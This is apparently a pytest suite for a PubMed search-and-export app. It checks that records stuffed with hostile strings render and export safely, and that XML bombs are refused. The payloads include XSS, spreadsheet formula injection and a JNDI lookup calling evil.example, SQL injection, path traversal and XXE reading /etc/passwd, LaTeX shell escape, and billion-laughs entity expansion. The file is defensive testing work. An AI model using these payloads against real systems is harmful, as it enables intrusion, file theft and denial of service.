"""Records of any content are read, labelled, shown and exported: as text, within bounds, without an error."""

import csv
import io
from dataclasses import replace

import pytest

from data.exports.command import export
from data.harvest.service import harvest
from data.pubmed.client import Client
from data.pubmed.errors import PubMedError
from data.records.record import MeshHeading, Record
from data.settings import read_settings
from tests.eutils import EutilsServer, clients, starter_records

PAYLOADS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example","x") +1+1 -2 @SUM(A1)',
    "[x](javascript:alert(1)) ![x](http://evil.example/a.png) <http://evil.example>",
    "'; DROP TABLE records; -- \" OR 1=1",
    "../../../../etc/passwd %2e%2e%2f C:\\Windows\\x \\\\host\\share",
    "{{7*7}} ${jndi:ldap://evil.example/a} {0.__class__} %s %n",
    "1" + ",000" * 150 + " patients with neuropathic pain received 9" + "9" * 400 + " cells",
    "9" * 4_400 + " rats",
    "neuropathic pain " * 300,
    "(" * 2_000 + ")" * 2_000,
    "\u202e\u2066\u200b\ufeff\U0001f9ec a\u0301\u0301\u0301 \ufffe",
    "\\input{/etc/passwd} \\write18{id} @comment{ } % $ # & _ ~ ^",
    "TY  - JOUR AU  - Evil ER  - PMID- 1",
    "]]> <![CDATA[ x ]]> &lt;!ENTITY x SYSTEM 'file:///etc/passwd'&gt; &x;",
    "pain " + "stem cell did not reduce pain, but " * 50,
)
ABOUT = "mesenchymal stem cells for neuropathic pain after spinal cord injury"
FORMS = ("ris", "bibtex", "nbib", "csv", "xlsx", "pmids", "links", "vancouver", "apa")
PAGES = ("overview", "evidence_map", "clinical_studies", "trends", "studies", "methods")


def hostile_records():
    for number, text in enumerate(PAYLOADS, start=1):
        whole = Record(
            pmid=90_000_000 + number, title=f"{ABOUT} {text}", abstract=f"RESULTS: {ABOUT}. {text}"
        )
        yield replace(
            whole,
            authors=(text[:300],),
            journal=text[:300],
            keywords=(text[:300],),
            mesh=(MeshHeading(text[:100], (text[:50],), True),),
            affiliation=text[:300],
            publication_types=("Clinical Trial",),
            pages=text[:50],
            volume=text[:50],
            year=2020,
        )


@pytest.fixture
def kept(home, monkeypatch, eutils):
    """A stored search of all hostile records."""
    monkeypatch.setenv("EUTILS_URL", eutils.url)
    monkeypatch.setenv("ENTREZ_EMAIL", "someone@hospital.org")
    eutils.hold(hostile_records())
    search = harvest(read_settings(), "pain[tiab]")
    assert search.fetched == len(PAYLOADS)
    return search


def test_every_page_and_paper_shows_them(kept, open_app):
    app = open_app(search=f"{kept.started:%Y-%m-%d}.{kept.id}", out_of_scope="1", related="1")
    for page in PAGES:
        app.switch_page(f"pages/{page}.py").run()
        assert not app.exception, page
    for number in range(1, len(PAYLOADS) + 1):
        app.query_params["pmid"] = str(90_000_000 + number)
        app.switch_page("pages/studies.py").run()
        assert not app.exception, PAYLOADS[number - 1][:60]
        for part in app.get("html"):
            assert "<script>alert" not in part.proto.body and "<img" not in part.proto.body
    for text in app.markdown:
        assert "](javascript:" not in text.value.replace("\\]", "")


def test_every_export_is_written(kept):
    written = {}
    for form in FORMS:
        out = io.BytesIO()
        export(read_settings(), form, None, out)
        written[form] = out.getvalue()
    assert all(written.values())
    rows = list(csv.reader(io.StringIO(written["csv"].decode("utf-8-sig"))))
    assert len(rows) == len(PAYLOADS) + 1
    assert not any(cell[:1] in "=+-@" for row in rows[1:] for cell in row if cell)


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "billion laughs": f'<!DOCTYPE l [<!ENTITY l0 "lol">{ENTITIES}]>'
    "<eSearchResult><Count>&l9;</Count></eSearchResult>",
    "quadratic": f'<!DOCTYPE l [<!ENTITY a "{"a" * 50_000}">]>'
    f"<eSearchResult><Count>1</Count><QueryTranslation>{'&a;' * 50_000}</QueryTranslation></eSearchResult>",
    "external entity": '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<eSearchResult><Count>1</Count><QueryTranslation>&x;</QueryTranslation></eSearchResult>",
    "external definition": '<!DOCTYPE eSearchResult SYSTEM "http://127.0.0.1:9/evil.dtd">'
    "<eSearchResult><Count>&x;</Count></eSearchResult>",
    "deep": "<eSearchResult>" + "<a>" * 100_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_an_answer_that_would_grow_is_refused(eutils: EutilsServer, bomb):
    eutils.fail(lambda reply: replace(reply, body=BOMBS[bomb].encode()), times=3)
    client: Client = clients.hurried(eutils, max_tries=3)
    with pytest.raises(PubMedError) as refused:
        client.esearch("pain")
    assert "root:" not in str(refused.value)
    eutils.hold(starter_records())
    assert client.esearch("pain").count
